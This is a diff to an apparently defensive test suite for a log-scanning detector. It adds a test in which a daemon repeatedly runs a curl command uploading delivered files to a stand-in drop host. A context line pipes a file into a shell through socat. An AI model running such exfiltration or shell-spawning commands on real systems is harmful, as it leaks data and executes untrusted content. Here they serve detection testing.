@@ -84,6 +84,22 @@ test('a program that just read it starts a shell with an order of nobody, which 
   assert.ok(factorsOf(alert).includes('that the content ordered the command is a guess'));
 });
 
+test('a daemon that starts a command for each message has read none of them', async () => {
+  const log = new HostLog();
+  const daemon = log.service('/usr/sbin/any-watcher', 'clerk');
+  for (let i = 0; i < 3; i++) {
+    const { path } = log.deliver();
+    const words = ['/usr/bin/curl', '-s', '--data-binary', `@${path}`, 'http://drop.example.net/i'];
+    daemon
+      .run(['/bin/sh', '-c', words.join(' ')])
+      .exec(words)
+      .read(path)
+      .connect(OUT, 80);
+  }
+  const told = await scanLog(log);
+  assert.deepEqual([...new Set(told.map(alert => alert.analytic))], ['AN1310']);
+});
+
 test('and one that gets it on its input, and hands that to a shell', async () => {
   const { log, shell } = saved();
   shell.run(`/usr/bin/socat FILE:${FILE} EXEC:sh`).read(FILE).run('/bin/sh').run('/usr/bin/curl -s x').connect(OUT, 80);
